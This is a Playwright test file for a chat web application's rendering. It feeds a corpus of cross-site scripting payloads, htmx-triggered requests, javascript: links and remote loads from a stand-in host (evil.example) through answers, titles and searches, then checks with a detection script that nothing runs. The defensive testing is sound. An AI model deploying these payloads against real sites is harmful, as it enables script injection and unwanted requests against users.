"""What models, people and addresses say is text: nothing of it runs, and nothing asks a foreign host."""

from __future__ import annotations

import itertools
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.stage import Site, ask_and_wait, replies

pytestmark = pytest.mark.browser

Visit = Callable[..., Page]

ATTACKS = [
    "<script>parent.pwned=1;window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.example/x.png>",
    "![a](https://evil.example/pixel.png)",
    "![a](javascript:window.pwned=1)",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:x)",
    "<a href='javascript:window.pwned=1'>x</a>",
    "<svg onload=window.pwned=1><use href='https://evil.example/#a'/></svg>",
    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=https://evil.example/></object>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Send</button></form>",
    "<div hx-get=https://evil.example/ hx-trigger=load></div>",
    "<div hx-get=/settings hx-trigger=load hx-target=body></div>",
    "<div data-hx-post=/sign-out hx-trigger=load></div>",
    "<div hx-on:click=window.pwned=1 hx-on--load=window.pwned=1>x</div>",
    "<hx-partial hx-target=#main hx-swap=innerHTML>pwned by partial</hx-partial>",
    "<template hx type=partial hx-target=#main>pwned by template</template>",
    "<template data-turn=x data-op=end>x</template>",
    "</template></article><script>window.pwned=1</script>",
    "<textarea id=text>stolen</textarea>",
    "<video src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "<p style='background:url(https://evil.example/b.png);position:fixed;inset:0'>cover</p>",
    "<p id=main class=veil>clobber</p>",
    "$\\href{javascript:window.pwned=1}{x}$",
    "$$\\text{<img src=x onerror=window.pwned=1>}$$",
    "```html\n<script>window.pwned=1</script>\n```",
    '```" onload=window.pwned=1\nx\n```',
    "`<img src=x onerror=window.pwned=1>`",
    '[a]: https://evil.example "t\\" onmouseover=window.pwned=1"\n\n[a]',
    '<https://evil.example/"onmouseover=window.pwned=1>',
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u202e<script>window.pwned=1</script>",
    "<x onclick=window.pwned=1 tabindex=1>x</x>",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "</title><script>window.pwned=1</script>",
    "'\"><script>window.pwned=1</script>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.pwned=1//'>",
]
WRAPS = [
    "{}",
    "Some words before.\n\n{}\n\nAnd after.",
    "- item {}",
    "> {}",
    "# {}",
    "**{}**",
    "1. a\n   {}",
    "| h |\n|---|\n| {} |",
    "<div>{}</div>",
    "text {} text {}",
    "```js\n{}\n```\n{}",
]
CORPUS = [wrap.replace("{}", attack) for attack, wrap in itertools.product(ATTACKS, WRAPS)]


FIND_BAD = r"""() => {
  const tags = 'script style iframe object embed img video audio form input textarea link meta base template'.split(' ')
  const isBad = (element, { name, value }) => /^(on|style$|data-hx)/.test(name)
    || (name.startsWith('hx-') && element.closest('.prose, .bubble'))
    || (/^(href|src|action|xlink:href)$/.test(name) && /^\s*(javascript|data|vbscript):/i.test(value))
  return [...document.querySelectorAll('.prose *, .bubble *, h1 *, #chats *')]
    .filter(e => tags.includes(e.localName) || [...e.attributes].some(a => isBad(e, a)))
    .map(e => e.outerHTML.slice(0, 200))
}"""


def assert_harmless(page: Page) -> None:
    assert page.evaluate("window.pwned") is None
    bad = page.evaluate(FIND_BAD)
    assert bad == []
    assert page.locator("#main").count() == 1
    assert page.locator("#text").count() == 1


def test_corpus_is_large() -> None:
    assert len(CORPUS) >= 500


def test_hostile_answers_run_nothing_and_ask_nobody(visit: Visit, site: Site) -> None:
    """Each answer is streamed, which is one way into the page, and shown again after a reload, which is another."""
    page = visit()
    site.actor.pause_s = 0
    for number, start in enumerate(range(0, len(CORPUS), 60)):
        site.actor.answers[f"Attack {number}"] = "\n\n".join(CORPUS[start : start + 60])
        ask_and_wait(page, f"Attack {number}")
        assert_harmless(page)
    page.reload()
    expect(replies(page).last).to_be_visible()
    assert_harmless(page)
    for link in page.locator(".prose a").all()[:40]:
        assert (link.get_attribute("href") or "https:").startswith(("http:", "https:", "mailto:"))
        assert "noopener" in (link.get_attribute("rel") or "")


def test_hostile_thoughts_are_text(visit: Visit, site: Site) -> None:
    page = visit()
    conversation = "".join(ATTACKS[:12])
    site.actor.answers["Think"] = conversation
    ask_and_wait(page, "Think")
    assert_harmless(page)


def test_hostile_questions_titles_names_and_searches_are_text(visit: Visit, site: Site) -> None:
    page = visit()
    for attack in ATTACKS[::6]:
        page.goto(site.url + "/")
        ask_and_wait(page, attack)
        assert_harmless(page)
        page.get_by_label("More about this chat").click()
        page.get_by_role("button", name="Rename").click()
        page.get_by_role("textbox", name="Title").fill(attack.replace("\n", " ")[:150])
        page.get_by_role("dialog").get_by_role("button", name="Save").click()
        expect(page.get_by_role("dialog")).to_be_hidden()
        assert_harmless(page)
        page.reload()
        assert_harmless(page)
    page.goto(
        site.url + "/search?q=" + "%3Cscript%3Ewindow.pwned=1%3C/script%3E%22%3E%3Cimg src=x onerror=window.pwned=1%3E"
    )
    assert page.evaluate("window.pwned") is None
    page.get_by_role("searchbox", name="Search").fill("<img src=x onerror=window.pwned=1>")
    expect(page.get_by_role("navigation", name="Chats").get_by_role("heading").first).to_be_visible()
    assert page.evaluate("window.pwned") is None


def test_error_texts_of_a_vendor_are_text(visit: Visit, site: Site) -> None:
    page = visit("/sign-in?next=" + "%22%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E")
    assert page.evaluate("window.pwned") is None
    page.goto(site.url + "/c/%3Cscript%3Ewindow.pwned=1%3C%2Fscript%3E")
    assert page.evaluate("window.pwned") is None
